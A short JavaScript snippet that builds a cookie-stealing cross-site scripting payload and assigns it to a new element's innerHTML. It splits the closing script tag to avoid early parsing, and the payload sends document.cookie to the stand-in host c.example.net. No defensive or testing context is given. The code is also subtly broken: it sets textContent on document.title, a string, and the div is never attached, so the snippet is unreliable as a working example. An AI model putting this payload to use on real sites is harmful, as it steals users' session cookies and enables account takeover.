const parts = ['<script>new Image().src = "https://c.example.net/?" + document.cookie</' + 'script>'];
document.title.textContent = 'Hello';
const frame = document.createElement('div');
frame.innerHTML = parts[0];
